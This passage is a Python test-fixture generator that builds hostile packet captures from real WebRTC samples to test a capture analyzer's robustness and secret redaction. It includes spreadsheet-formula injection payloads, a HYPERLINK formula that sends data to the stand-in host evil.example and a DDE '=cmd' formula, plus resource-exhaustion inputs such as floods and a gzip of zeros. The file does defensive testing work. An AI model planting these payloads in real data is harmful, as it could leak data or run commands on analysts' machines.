"""The hostile corpus: crafted captures an attacker would send, built at test time by MUTATING real captures
from ``sample_captures/`` (one real WebSocket message altered, one real STUN request replicated, a real DTLS
handshake message re-fragmented …) — small files, never committed blobs, never hand-built protocol bytes.

Each generator ``(out_dir, scale) -> Case`` makes one row of issue 19's table; ``scale`` 10 is the long-run
mode (``RTCF_HOSTILE_SCALE=10`` for ``tests/test_hostile_corpus.py``, or ``python -m fuzz.hostile --scale 10
--out DIR`` to build them by hand). ``Case.base`` names the real capture it came from: the harness checks that
the real call's findings are all still reported once the poisoned item is added.

Packet surgery (:class:`Pcap`) works on classic pcap (samples converted with editcap): a TCP payload replaced
(sequence and acknowledgement numbers of the rest of the connection shifted, lengths and checksums
recomputed, a payload larger than one segment split into several), a WebSocket frame re-framed with its own
masking key, a UDP payload replaced, ports rewritten.
"""

from __future__ import annotations

import argparse
import gzip
import ipaddress
import os
import shutil
import struct
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
SAMPLES = ROOT / "sample_captures"
# A planted secret that no real capture holds (so finding it in an output can only mean a leak).
PLANTED = (
    "Zq7hostileSecretValue9X",
    "Kv3plantedBearerToken8W",
    "Rm5plantedSipPassword2Y",
    "Tx4amzSignatureValue6P",
    "Ln2sessionIdentifier3Q",
)


@dataclass
class Case:
    name: str
    path: Path
    base: str  # the sample capture it was made from
    how: str
    args: list[str] = field(default_factory=list)  # extra CLI arguments (e.g. --keylog)
    secrets: tuple[str, ...] = ()  # planted secrets that must not reach any output
    expect_slugs: tuple[str, ...] = ()  # findings the poisoned capture must (still or newly) give
    xfail: str | None = None  # why this row fails today (another room's code), if it does
    # the run must be complete (exit 0 with --fail-on none), or incomplete (exit 3); None: either
    complete: bool | None = None
    # anomaly rows the report must hold: name -> a piece of its detail
    expect_anomalies: dict[str, str] = field(default_factory=dict)
    max_rss_mb: float | None = None  # a tighter bound than the harness's (e.g. no memory per record)
    # the mutation moves no host: every (finding, host) pair of the real call must still be reported
    same_hosts: bool = False


# ----------------------------------------------------------------------------------------- pcap surgery
def to_pcap(src: Path, dst: Path) -> Path:
    """A sample capture as classic pcap (microsecond), by editcap; absolute paths (never read as options)."""
    subprocess.run(
        ["editcap", "-F", "pcap", str(src.absolute()), str(dst.absolute())],
        check=True,
        capture_output=True,
        timeout=300,
    )
    return dst


def _csum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


@dataclass
class Pkt:
    ts: tuple[int, int]
    data: bytes

    # Ethernet (optionally one VLAN tag) + IPv4/IPv6 (no extension headers) + TCP/UDP
    def layers(self) -> tuple[int, int, int, int] | None:
        """(ip offset, ip version, transport offset, ip proto) or None."""
        d = self.data
        off, et = 14, struct.unpack("!H", d[12:14])[0]
        if et == 0x8100:
            off, et = 18, struct.unpack("!H", d[16:18])[0]
        if et == 0x0800:
            ihl = (d[off] & 0x0F) * 4
            return off, 4, off + ihl, d[off + 9]
        if et == 0x86DD:
            return off, 6, off + 40, d[off + 6]
        return None

    def addrs(self) -> tuple[bytes, bytes]:
        lay = self.layers()
        assert lay is not None
        ip, v = lay[0], lay[1]
        d = self.data
        return (
            (d[ip + 12 : ip + 16], d[ip + 16 : ip + 20])
            if v == 4
            else (d[ip + 8 : ip + 24], d[ip + 24 : ip + 40])
        )

    def ports(self) -> tuple[int, int]:
        lay = self.layers()
        assert lay is not None
        return struct.unpack("!HH", self.data[lay[2] : lay[2] + 4])

    def tcp(self) -> tuple[int, int, int, int, bytes] | None:
        """(seq, ack, flags, header length, payload) of a TCP packet."""
        lay = self.layers()
        if lay is None or lay[3] != 6:
            return None
        t = lay[2]
        seq, ack = struct.unpack("!II", self.data[t + 4 : t + 12])
        hl = (self.data[t + 12] >> 4) * 4
        return seq, ack, self.data[t + 13], hl, self.data[t + hl : self._ip_end()]

    def udp_payload(self) -> bytes | None:
        lay = self.layers()
        if lay is None or lay[3] != 17:
            return None
        return self.data[lay[2] + 8 : self._ip_end()]

    def _ip_end(self) -> int:
        lay = self.layers()
        assert lay is not None
        ip, v = lay[0], lay[1]
        n = (
            struct.unpack("!H", self.data[ip + 2 : ip + 4])[0]
            if v == 4
            else 40 + struct.unpack("!H", self.data[ip + 4 : ip + 6])[0]
        )
        return min(ip + n, len(self.data))

    def rebuilt(
        self,
        *,
        payload: bytes | None = None,
        seq: int | None = None,
        ack: int | None = None,
        sport: int | None = None,
        dport: int | None = None,
        src: bytes | None = None,
    ) -> Pkt:
        """A copy with the transport payload / numbers / ports / source address replaced; lengths and
        checksums recomputed."""
        lay = self.layers()
        assert lay is not None
        ip, v, t, proto = lay
        d = bytearray(self.data[: self._ip_end()])
        if src is not None:
            if v == 4:
                d[ip + 12 : ip + 16] = src
            else:
                d[ip + 8 : ip + 24] = src
        hl = (d[t + 12] >> 4) * 4 if proto == 6 else 8
        body = bytes(d[t + hl :]) if payload is None else payload
        head = bytearray(d[t : t + hl])
        if sport is not None:
            head[0:2] = struct.pack("!H", sport)
        if dport is not None:
            head[2:4] = struct.pack("!H", dport)
        if proto == 6:
            if seq is not None:
                head[4:8] = struct.pack("!I", seq & 0xFFFFFFFF)
            if ack is not None:
                head[8:12] = struct.pack("!I", ack & 0xFFFFFFFF)
            head[16:18] = b"\0\0"
        else:
            head[4:6] = struct.pack("!H", 8 + len(body))
            head[6:8] = b"\0\0"
        seg = bytes(head) + body
        iph = bytearray(d[ip:t])
        if v == 4:
            iph[2:4] = struct.pack("!H", len(iph) + len(seg))
            iph[10:12] = b"\0\0"
            iph[10:12] = struct.pack("!H", _csum(bytes(iph)))
            pseudo = bytes(iph[12:20]) + struct.pack("!BBH", 0, proto, len(seg))
        else:
            iph[4:6] = struct.pack("!H", len(seg))
            pseudo = bytes(iph[8:40]) + struct.pack("!IxxxB", len(seg), proto)
        cs = _csum(pseudo + seg) or 0xFFFF
        seg_b = bytearray(seg)
        seg_b[16 if proto == 6 else 6 : 18 if proto == 6 else 8] = struct.pack("!H", cs)
        return Pkt(self.ts, bytes(d[:ip]) + bytes(iph) + bytes(seg_b))


class Pcap:
    """A classic pcap held as a list of packets."""

    def __init__(self, path: Path) -> None:
        raw = path.read_bytes()
        magic = raw[:4]
        self.endian = "<" if magic in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1") else ">"
        self.header = raw[:24]
        self.pkts: list[Pkt] = []
        off = 24
        while off + 16 <= len(raw):
            s, us, incl, _orig = struct.unpack(self.endian + "IIII", raw[off : off + 16])
            self.pkts.append(Pkt((s, us), raw[off + 16 : off + 16 + incl]))
            off += 16 + incl

    @classmethod
    def of_sample(cls, name: str, work: Path) -> Pcap:
        return cls(to_pcap(SAMPLES / f"{name}.pcapng", work / f".{name}.src.pcap"))

    def record(self, p: Pkt) -> bytes:
        return struct.pack(self.endian + "IIII", p.ts[0], p.ts[1], len(p.data), len(p.data)) + p.data

    def write(self, path: Path) -> Path:
        with path.open("wb") as fh:
            fh.write(self.header)
            for p in self.pkts:
                fh.write(self.record(p))
        return path

    def find_tcp(self, pred: Callable[[bytes], bool]) -> int:
        for i, p in enumerate(self.pkts):
            t = p.tcp()
            if t and t[4] and pred(t[4]):
                return i
        raise LookupError("no TCP segment matches")

    def replace_tcp_payload(self, i: int, new: bytes, max_seg: int = 32000) -> None:
        """Packet ``i``'s TCP payload becomes ``new`` (split into segments of at most ``max_seg`` bytes);
        every later packet of the connection has its sequence / acknowledgement numbers shifted."""
        p = self.pkts[i]
        t = p.tcp()
        assert t is not None
        seq, _ack, _flags, _hl, old = t
        delta = len(new) - len(old)
        (a_src, a_dst), (sp, dp) = p.addrs(), p.ports()
        segs = [new[k : k + max_seg] for k in range(0, len(new), max_seg)] or [b""]
        out, s = [], seq
        for chunk in segs:
            out.append(p.rebuilt(payload=chunk, seq=s))
            s += len(chunk)
        for j in range(i + 1, len(self.pkts)):
            q = self.pkts[j]
            qt = q.tcp()
            if qt is None:
                continue
            (b_src, b_dst), (qs, qd) = q.addrs(), q.ports()
            if (b_src, b_dst, qs, qd) == (a_src, a_dst, sp, dp):
                self.pkts[j] = q.rebuilt(seq=qt[0] + delta)
            elif (
                (b_src, b_dst, qs, qd) == (a_dst, a_src, dp, sp)
                and qt[2] & 0x10
                and (qt[1] - seq) % (1 << 32) < (1 << 31)
                and qt[1] != seq
            ):
                self.pkts[j] = q.rebuilt(ack=qt[1] + delta)
        self.pkts[i : i + 1] = out


# ----------------------------------------------------------------------------------------- WebSocket
def ws_parse(payload: bytes) -> tuple[int, bytes | None, bytes] | None:
    """(first byte, masking key, unmasked payload) when ``payload`` is exactly one WebSocket frame."""
    if len(payload) < 2:
        return None
    b0, b1 = payload[0], payload[1]
    n, off = b1 & 0x7F, 2
    if n == 126:
        n, off = struct.unpack("!H", payload[2:4])[0], 4
    elif n == 127:
        n, off = struct.unpack("!Q", payload[2:10])[0], 10
    key = None
    if b1 & 0x80:
        key, off = payload[off : off + 4], off + 4
    if off + n != len(payload):
        return None
    body = payload[off:]
    if key:
        body = bytes(c ^ key[k % 4] for k, c in enumerate(body))
    return b0, key, body


def ws_frame(b0: int, key: bytes | None, body: bytes) -> bytes:
    n = len(body)
    mask = 0x80 if key else 0
    head = bytes([b0]) + (
        bytes([mask | n])
        if n < 126
        else bytes([mask | 126]) + struct.pack("!H", n)
        if n < 65536
        else bytes([mask | 127]) + struct.pack("!Q", n)
    )
    if key:
        body = bytes(c ^ key[k % 4] for k, c in enumerate(body))
        head += key
    return head + body


def alter_ws_message(cap: Pcap, needle: bytes, change: Callable[[bytes], bytes]) -> None:
    """The first WebSocket text frame whose text holds ``needle`` is rewritten as ``change(text)``."""

    def match(pl: bytes) -> bool:
        w = ws_parse(pl)
        return w is not None and needle in w[2]

    i = cap.find_tcp(match)
    t = cap.pkts[i].tcp()
    assert t is not None
    w = ws_parse(t[4])
    assert w is not None
    cap.replace_tcp_payload(i, ws_frame(w[0], w[1], change(w[2])))


def alter_http_head(cap: Pcap, needle: bytes, change: Callable[[bytes], bytes]) -> None:
    """The first TCP segment holding ``needle`` (an HTTP request/response head) rewritten as ``change``."""
    i = cap.find_tcp(lambda pl: needle in pl)
    t = cap.pkts[i].tcp()
    assert t is not None
    cap.replace_tcp_payload(i, change(t[4]))


# ----------------------------------------------------------------------------------------- generators
GENERATORS: dict[str, Callable[[Path, int], Case]] = {}


def generator(fn: Callable[[Path, int], Case]) -> Callable[[Path, int], Case]:
    GENERATORS[fn.__name__] = fn
    return fn


@generator
def ws_huge_json_number(out: Path, scale: int) -> Case:
    """The MITM call with one WebSocket message holding a 5,000-digit JSON number (beyond int()'s limit)."""
    cap = Pcap.of_sample("fingerprint_rewrite", out)
    digits = b"7" * (5000 * scale)
    alter_ws_message(cap, b'"sdp"', lambda t: t.replace(b"{", b'{"seq": ' + digits + b", ", 1))
    return Case(
        "ws_huge_json_number",
        cap.write(out / "ws_huge_json_number.pcap"),
        "fingerprint_rewrite",
        f"one WebSocket message with a {len(digits)}-digit JSON number",
    )


@generator
def ws_oversized_message(out: Path, scale: int) -> Case:
    """An offer over tshark 4.0's 256 KiB websocket.payload.text limit (the real SDP plus padding)."""
    cap = Pcap.of_sample("fingerprint_rewrite", out)
    pad = b"x" * (300 * 1024 * scale)
    alter_ws_message(cap, b'"sdp"', lambda t: t.replace(b"{", b'{"pad": "' + pad + b'", ', 1))
    return Case(
        "ws_oversized_message",
        cap.write(out / "ws_oversized_message.pcap"),
        "fingerprint_rewrite",
        f"one WebSocket message of {len(pad) >> 10} KiB (the SDP plus padding)",
        expect_slugs=("signalling-plaintext", "dtls-fingerprint-mismatch"),
    )


@generator
def sdp_candidate_flood(out: Path, scale: int) -> Case:
    """One SDP over a WebSocket with 10,000 (long run: 100,000) copies of its own a=candidate line."""
    cap = Pcap.of_sample("fingerprint_rewrite", out)
    n = 10_000 * scale

    def flood(t: bytes) -> bytes:
        start = t.index(b"a=candidate:")
        end = t.index(b"\\r\\n", start)
        line = t[start:end]
        host_port = line.split(b" ")
        extra = b"".join(
            b"a=candidate:"
            + str(k).encode()
            + b" "
            + b" ".join(host_port[1:5])
            + b" "
            + str(1024 + k % 60000).encode()
            + b" "
            + b" ".join(host_port[6:])
            + b"\\r\\n"
            for k in range(n)
        )
        return t[:start] + extra + t[start:]

    alter_ws_message(cap, b"a=candidate:", flood)
    return Case(
        "sdp_candidate_flood",
        cap.write(out / "sdp_candidate_flood.pcap"),
        "fingerprint_rewrite",
        f"{n} a=candidate lines in one SDP",
    )


@generator
def secrets_in_url_and_headers(out: Path, scale: int) -> Case:
    """Secrets under names the redactor did not know: URL query access-token, X-Amz-Signature, sessionid; a
    lowercase ``authorization: bearer``; and a User-Agent that is a spreadsheet formula."""
    cap = Pcap.of_sample("ws_plaintext_private", out)
    s = PLANTED

    def plant(head: bytes) -> bytes:
        line_end = head.index(b" HTTP/1.1")
        head = (
            head[:line_end]
            + f"?access-token={s[0]}&X-Amz-Signature={s[3]}&sessionid={s[4]}".encode()
            + head[line_end:]
        )
        ua_at = head.lower().find(b"\r\nuser-agent:")
        extra = f"\r\nauthorization: bearer {s[1]}".encode()
        if ua_at >= 0:
            end = head.index(b"\r\n", ua_at + 2)
            head = (
                head[:ua_at]
                + b'\r\nUser-Agent: =HYPERLINK("http://evil.example/?"&A1,"open")'
                + extra
                + head[end:]
            )
        else:
            head = head.replace(b"\r\n", extra + b"\r\n", 1)
        return head

    alter_http_head(cap, b"GET /ws/lab/", plant)
    return Case(
        "secrets_in_url_and_headers",
        cap.write(out / "secrets_in_url_and_headers.pcap"),
        "ws_plaintext_private",
        "access-token / X-Amz-Signature / sessionid in the URL, lowercase bearer, a formula User-Agent",
        secrets=(s[0], s[1], s[3], s[4]),
    )


@generator
def sip_userinfo_password(out: Path, scale: int) -> Case:
    """A SIP URI with a password in its userinfo (``sip:bob:PASS@host``) inside a clear WebSocket signalling
    message (the bundled SIP-over-WebSocket call is TLS, so the MITM call's offer carries it)."""
    cap = Pcap.of_sample("fingerprint_rewrite", out)
    pw = PLANTED[2]
    alter_ws_message(
        cap, b'"sdp"', lambda t: t.replace(b"{", f'{{"contact": "sip:bob:{pw}@203.0.113.20", '.encode(), 1)
    )
    return Case(
        "sip_userinfo_password",
        cap.write(out / "sip_userinfo_password.pcap"),
        "fingerprint_rewrite",
        "sip:bob:PASS@host in a signalling message",
        secrets=(pw,),
    )


def _stun_requests(cap: Pcap) -> list[int]:
    out = []
    for i, p in enumerate(cap.pkts):
        pl = p.udp_payload()
        if pl and len(pl) >= 20 and pl[4:8] == b"\x21\x12\xa4\x42" and pl[0:2] == b"\x00\x01":
            out.append(i)
    return out


@generator
def stun_on_dns_port(out: Path, scale: int) -> Case:
    """ICE connectivity checks without integrity, with one peer's port rewritten to 53 (TURN/STUN servers do
    listen on 53 and 123): classification by content must win over the well-known port."""
    cap = Pcap.of_sample("stun_no_integrity", out)
    first = cap.pkts[_stun_requests(cap)[0]]
    (src, _), (sp, _) = first.addrs(), first.ports()
    for i, p in enumerate(cap.pkts):
        if p.udp_payload() is None:
            continue
        (a, b), (x, y) = p.addrs(), p.ports()
        if a == src and x == sp:
            cap.pkts[i] = p.rebuilt(sport=53)
        elif b == src and y == sp:
            cap.pkts[i] = p.rebuilt(dport=53)
    return Case(
        "stun_on_dns_port",
        cap.write(out / "stun_on_dns_port.pcap"),
        "stun_no_integrity",
        "STUN connectivity checks on UDP port 53",
        expect_slugs=("stun-no-integrity",),
    )


@generator
def stun_software_formula(out: Path, scale: int) -> Case:
    """The TURN server's SOFTWARE attribute overwritten in place with a spreadsheet formula."""
    cap = Pcap.of_sample("turn_open_relay", out)
    formula = b"=cmd|' /C calc'!A0"
    for i, p in enumerate(cap.pkts):
        pl = p.udp_payload()
        if not pl or pl[4:8] != b"\x21\x12\xa4\x42":
            continue
        k = 20
        while k + 4 <= len(pl):
            typ, ln = struct.unpack("!HH", pl[k : k + 4])
            if typ == 0x8022 and ln >= len(formula):
                val = (formula + b" " * ln)[:ln]
                pl = pl[: k + 4] + val + pl[k + 4 + ln :]
                cap.pkts[i] = p.rebuilt(payload=pl)
            k += 4 + ln + (-ln % 4)
    return Case(
        "stun_software_formula",
        cap.write(out / "stun_software_formula.pcap"),
        "turn_open_relay",
        "STUN SOFTWARE =cmd|' /C calc'!A0",
    )


@generator
def many_udp_flows(out: Path, scale: int) -> Case:
    """100,000 (long run: 1,000,000) distinct UDP flows of one real STUN Binding request each."""
    cap = Pcap.of_sample("stun_no_integrity", out)
    req = cap.pkts[_stun_requests(cap)[0]]
    n = 100_000 * scale
    src, _ = req.addrs()
    path = out / "many_udp_flows.pcap"
    with path.open("wb") as fh:
        fh.write(cap.header)
        for p in cap.pkts:
            fh.write(cap.record(p))
        for k in range(n):
            a = bytearray(src)
            a[-2:] = struct.pack("!H", 1 + (k // 60000) % 65000)
            q = req.rebuilt(sport=1024 + k % 60000, src=bytes(a))
            fh.write(cap.record(Pkt((req.ts[0] + 5, (k * 7) % 1_000_000), q.data)))
    return Case(
        "many_udp_flows",
        path,
        "stun_no_integrity",
        f"{n} UDP flows of one STUN request each",
        # measured 2026-12-07: 294 MB at 10^5 (463 MB before the compact datagram store and column-wise flows);
        # 10^6 in memory: 858 MiB peak RSS, complete, 21 findings (3.0 GB that morning). Under the harness's
        # 1 GiB of address space that run fails its frames at ~700 MB resident (the address space holds more
        # than what is resident), so the long run gives a budget: the read stops, an incomplete run with the
        # call's findings (565 MB peak at 1G)
        max_rss_mb=400 if scale == 1 else 1000,
        args=[] if scale == 1 else ["--max-memory", "700M"],
    )


@generator
def gzip_of_zeros(out: Path, scale: int) -> Case:
    """A ``.pcap.gz``: a real call, then 128 MiB (long run: 1.25 GiB) of zeros — 8.4 (84) million zero-length
    records, beyond the default ``--max-packets`` — compressed ~1000:1 to a small file. Zero-length records
    keep their frame numbers and cost no memory: the run reads them all and is complete, the call's findings
    kept, with one ``empty_records`` row (one run, its frames) and ``gzip_ratio_high``."""
    cap = Pcap.of_sample("weak_dtls", out)
    src = (out / ".weak_dtls.src.pcap").read_bytes()
    path = out / "gzip_of_zeros.pcap.gz"
    zeros = b"\0" * (1 << 20)
    mib = 128 * scale
    with gzip.open(path, "wb", compresslevel=9) as fh:
        fh.write(src)
        for _ in range(mib):
            fh.write(zeros)
    real, n = len(cap.pkts), (mib << 20) // 16
    return Case(
        "gzip_of_zeros",
        path,
        "weak_dtls",
        f"{mib} MiB of zero-length pcap records, gzipped",
        complete=True,
        expect_anomalies={
            "empty_records": f"{n:,} zero-length record(s) (captured length 0) in 1 run(s), frames "
            f"{real + 1}-{real + n}:",
            "gzip_ratio_high": ":1",
        },
        max_rss_mb=512,  # a packets row per record: ~100 bytes each, 800 MB for 8.4M
    )


def empty_runs(n: int) -> list[int]:
    """How many zero-length records go before each of ``n`` real records (and, last, after them): two before
    the first, a run of five before the eleventh, one before every seventh from the fourth, three at the end."""
    runs = [(2 if k == 0 else 0) + (5 if k == 10 else 0) + (1 if k % 7 == 3 else 0) for k in range(n)]
    return [*runs, 3]


def with_empty_records(name: str, out: Path, fmt: str = "pcap") -> tuple[Path, list[int]]:
    """The sample capture ``name`` with zero-length records (captured length 0, no bytes) inserted as
    :func:`empty_runs` says: classic pcap (records of the editcap copy, an empty one stamped with the time of
    the real record after it) or pcapng (each empty Enhanced Packet Block a copy of the next real one's, its
    data and lengths dropped; other blocks stay where they are). Returns the path and the new frame number of
    each real record, in order."""
    if fmt == "pcap":
        cap = Pcap.of_sample(name, out)
        head = cap.header
        blocks = [(cap.record(p), cap.record(Pkt(p.ts, b""))) for p in cap.pkts]
    else:
        data = (SAMPLES / f"{name}.pcapng").read_bytes()
        endian = "<" if data[8:12] == b"\x4d\x3c\x2b\x1a" else ">"
        epb = struct.pack(endian + "I", 6)

        def emptied(b: bytes) -> bytes:  # type, length 32, interface, time, caplen 0, origlen 0, length
            return b[:4] + struct.pack(endian + "I", 32) + b[8:20] + struct.pack(endian + "III", 0, 0, 32)

        head = b""
        blocks = [(b, emptied(b) if b[:4] == epb else None) for b in _pcapng_blocks(data)]
    runs = empty_runs(sum(e is not None for _, e in blocks))
    path = out / f"{name}.empty_records.{fmt}"
    frames: list[int] = []
    last = b""
    with path.open("wb") as fh:
        fh.write(head)
        for block, e in blocks:
            if e is not None:
                fh.write(e * runs[len(frames)])
                frames.append((frames[-1] if frames else 0) + runs[len(frames)] + 1)
                last = e
            fh.write(block)
        fh.write(last * runs[-1])
    return path, frames


def _pcapng_blocks(data: bytes) -> list[bytes]:
    out, off = [], 0
    endian = "<" if data[8:12] == b"\x4d\x3c\x2b\x1a" else ">"
    while off + 12 <= len(data):
        ln = struct.unpack(endian + "I", data[off + 4 : off + 8])[0]
        out.append(data[off : off + ln])
        off += ln
    return out


@generator
def many_pcapng_sections(out: Path, scale: int) -> Case:
    """The real capture's section (header, interfaces, its packets) followed by 1,000 (long run: 10,000)
    more sections, each a copy of its header and interface blocks with one of its packets."""
    data = (SAMPLES / "weak_dtls.pcapng").read_bytes()
    blocks = _pcapng_blocks(data)
    shb = blocks[0]
    idbs = [b for b in blocks if b[:4] in (b"\x01\x00\x00\x00", b"\x00\x00\x00\x01")]
    epbs = [b for b in blocks if b[:4] in (b"\x06\x00\x00\x00", b"\x00\x00\x00\x06")]
    path = out / "many_pcapng_sections.pcapng"
    with path.open("wb") as fh:
        fh.write(data)
        for k in range(1000 * scale):
            fh.write(shb + b"".join(idbs) + epbs[k % len(epbs)])
    return Case("many_pcapng_sections", path, "weak_dtls", f"{1000 * scale} extra pcapng sections")


@generator
def pcapng_secrets_blocks(out: Path, scale: int) -> Case:
    """Eleven Decryption Secrets Blocks of 1 MiB (long run: 10 MiB) each, made of the call's own keylog
    lines, inserted after the section header of an SDES call."""
    data = (SAMPLES / "sdes_plain_rtp.pcapng").read_bytes()
    blocks = _pcapng_blocks(data)
    endian = "<" if data[8:12] == b"\x4d\x3c\x2b\x1a" else ">"
    lines = (SAMPLES / "clean_call.keylog").read_bytes()
    size = (1 << 20) * scale
    secret = (lines * (size // len(lines) + 1))[:size]
    secret += b"\0" * (-len(secret) % 4)
    body = struct.pack(endian + "II", 0x544C534B, len(secret)) + secret  # TLS key log
    ln = 12 + len(body)
    dsb = struct.pack(endian + "II", 0x0000000A, ln) + body + struct.pack(endian + "I", ln)
    path = out / "pcapng_secrets_blocks.pcapng"
    path.write_bytes(blocks[0] + dsb * 11 + b"".join(blocks[1:]))
    return Case("pcapng_secrets_blocks", path, "sdes_plain_rtp", f"11 DSBs of {size >> 20} MiB")


def _dtls_handshakes(cap: Pcap) -> list[tuple[int, int]]:
    """(packet index, record offset) of DTLS handshake records (content type 22) in UDP payloads."""
    out = []
    for i, p in enumerate(cap.pkts):
        pl = p.udp_payload()
        if pl and len(pl) >= 25 and pl[0] == 22 and pl[1] == 0xFE:
            out.append((i, 0))
    return out


@generator
def dtls_fragment_headers(out: Path, scale: int) -> Case:
    """One DTLS record of 5,000 fragment headers, each copied from the call's real ClientHello header and
    declaring a new 1 MiB message with no bytes (zero-length fragments)."""
    cap = Pcap.of_sample("weak_dtls", out)
    i, _ = _dtls_handshakes(cap)[0]
    p = cap.pkts[i]
    pl = p.udp_payload()
    assert pl is not None
    rec_head, hs = pl[:13], pl[13:25]
    n = 5000 * scale
    frags = [
        hs[:1] + (1 << 20).to_bytes(3, "big") + struct.pack("!H", (k + 7) % 65536) + b"\0\0\0" + b"\0\0\0"
        for k in range(n)
    ]
    new = []
    for k in range(0, n, 5000):  # 5,000 headers (60 KB) per record, one record per datagram
        body = b"".join(frags[k : k + 5000])
        new.append(p.rebuilt(payload=rec_head[:11] + struct.pack("!H", len(body)) + body))
    cap.pkts[i + 1 : i + 1] = new
    return Case(
        "dtls_fragment_headers",
        cap.write(out / "dtls_fragment_headers.pcap"),
        "weak_dtls",
        f"one DTLS record with {n} fragment headers declaring 1 MiB messages",
    )


@generator
def dtls_one_byte_fragments(out: Path, scale: int) -> Case:
    """The call's real ClientHello re-sent as 4,000 (long run: 40,000) one-byte fragments (its bytes in
    turn), many records per datagram."""
    cap = Pcap.of_sample("weak_dtls", out)
    i, _ = _dtls_handshakes(cap)[0]
    p = cap.pkts[i]
    pl = p.udp_payload()
    assert pl is not None
    rec_len = struct.unpack("!H", pl[11:13])[0]
    hs = pl[13 : 13 + rec_len]
    msg_len = int.from_bytes(hs[1:4], "big")
    body = hs[12 : 12 + msg_len]
    n = 4000 * scale
    recs = []
    for k in range(n):
        off = k % len(body)
        frag = hs[:1] + hs[1:4] + hs[4:6] + off.to_bytes(3, "big") + b"\0\0\x01" + body[off : off + 1]
        recs.append(pl[:11] + struct.pack("!H", len(frag)) + frag)
    per = 1000
    new = [p.rebuilt(payload=b"".join(recs[k : k + per])) for k in range(0, len(recs), per)]
    cap.pkts[i + 1 : i + 1] = new
    return Case(
        "dtls_one_byte_fragments",
        cap.write(out / "dtls_one_byte_fragments.pcap"),
        "weak_dtls",
        f"one DTLS message as {n} one-byte fragments",
    )


# ----------------------------------------------------------------------------------------- DTLS handshake
def dtls_records(pl: bytes) -> list[tuple[int, int]] | None:
    """(offset, length) of each DTLS record when ``pl`` (a UDP payload) is whole DTLS records, else None."""
    out, off = [], 0
    while off < len(pl):
        if off + 13 > len(pl) or not 20 <= pl[off] <= 63 or pl[off + 1] != 0xFE:
            return None
        ln = struct.unpack("!H", pl[off + 11 : off + 13])[0]
        if off + 13 + ln > len(pl):
            return None
        out.append((off, ln))
        off += 13 + ln
    return out or None


Fragment = tuple[int, int, int, int, bytes]  # msg_type, msg length, message_seq, fragment offset, bytes


def handshake_fragments(body: bytes) -> list[Fragment] | None:
    """The handshake fragments of a plaintext handshake record's body, or None when it is not whole ones."""
    out, k = [], 0
    while k < len(body):
        if k + 12 > len(body):
            return None
        mlen, seq = int.from_bytes(body[k + 1 : k + 4], "big"), struct.unpack("!H", body[k + 4 : k + 6])[0]
        foff, flen = int.from_bytes(body[k + 6 : k + 9], "big"), int.from_bytes(body[k + 9 : k + 12], "big")
        if k + 12 + flen > len(body):
            return None
        out.append((body[k], mlen, seq, foff, body[k + 12 : k + 12 + flen]))
        k += 12 + flen
    return out


def _plain_handshakes(cap: Pcap) -> list[tuple[int, tuple[Any, ...], list[list[Fragment] | None]]]:
    """(packet index, direction, fragments per record, None for a record that is not a plaintext handshake)."""
    out = []
    for i, p in enumerate(cap.pkts):
        pl = p.udp_payload()
        recs = dtls_records(pl) if pl else None
        if not pl or not recs:
            continue
        frs = [
            handshake_fragments(pl[o + 13 : o + 13 + n])
            if pl[o] == 22 and pl[o + 3 : o + 5] == b"\0\0"
            else None
            for o, n in recs
        ]
        if any(frs):
            out.append((i, (*p.addrs(), *p.ports()), frs))
    return out


def alter_handshake_message(cap: Pcap, msg_type: int, change: Callable[[bytes], bytes]) -> tuple[Any, ...]:
    """The first plaintext DTLS handshake message of type ``msg_type`` is reassembled from its fragments (and
    every retransmission of it), rewritten as ``change(body)`` and put back in the same fragments: the fragment
    holding the first changed byte grows or shrinks, later ones move, and the handshake, record, UDP and IP
    lengths follow. Returns the sender's (address, address, port, port)."""
    hs = _plain_handshakes(cap)
    key = next(((d, f[2]) for _, d, frs in hs for fr in frs if fr for f in fr if f[0] == msg_type), None)
    if key is None:
        raise LookupError(f"no plaintext DTLS handshake message of type {msg_type}")
    mine = [(i, frs) for i, d, frs in hs if d == key[0]]
    old = bytearray()
    for _, frs in mine:
        for f in (f for fr in frs if fr for f in fr if (f[0], f[2]) == (msg_type, key[1])):
            old[len(old) : f[1]] = bytes(max(0, f[1] - len(old)))
            old[f[3] : f[3] + len(f[4])] = f[4]
    new = change(bytes(old))
    delta = len(new) - len(old)
    p = next((k for k, (a, b) in enumerate(zip(old, new)) if a != b), min(len(old), len(new)))

    def moved(x: int) -> int:
        return x + delta if x > p or x == len(old) else x

    for i, frs in mine:
        pl = cap.pkts[i].udp_payload()
        assert pl is not None
        out = b""
        for (o, n), fr in zip(dtls_records(pl) or [], frs):
            if not fr or not any((f[0], f[2]) == (msg_type, key[1]) for f in fr):
                out += pl[o : o + 13 + n]
                continue
            body = b""
            for t, mlen, seq, foff, data in fr:
                if (t, seq) == (msg_type, key[1]):
                    a, b = moved(foff), moved(foff + len(data))
                    mlen, foff, data = len(new), a, new[a:b]
                body += bytes([t]) + mlen.to_bytes(3, "big") + struct.pack("!H", seq)
                body += foff.to_bytes(3, "big") + len(data).to_bytes(3, "big") + data
            out += pl[o : o + 11] + struct.pack("!H", len(body)) + body
        cap.pkts[i] = cap.pkts[i].rebuilt(payload=out)
    return key[0]


def der_tlv(b: bytes, off: int) -> tuple[int, int, int]:
    """(tag, header length, content length) of the DER element at ``off``."""
    n = b[off + 1]
    if n < 0x80:
        return b[off], 2, n
    k = n & 0x7F
    return b[off], 2 + k, int.from_bytes(b[off + 2 : off + 2 + k], "big")


def der_elements(b: bytes) -> list[bytes]:
    out, off = [], 0
    while off < len(b):
        _, h, n = der_tlv(b, off)
        out.append(b[off : off + h + n])
        off += h + n
    return out


def der(tag: int, content: bytes) -> bytes:
    n = len(content)
    size = (
        bytes([n])
        if n < 0x80
        else bytes([0x80 | ((n.bit_length() + 7) // 8)]) + n.to_bytes((n.bit_length() + 7) // 8, "big")
    )
    return bytes([tag]) + size + content


def with_not_after(cert: bytes, when: bytes) -> bytes:
    """An X.509 certificate (DER) with its validity's notAfter replaced by the GeneralizedTime ``when``
    (the signature, and so the fingerprint, no longer match: the point of a forged one)."""
    _, h, n = der_tlv(cert, 0)
    tbs, *rest = der_elements(cert[h : h + n])
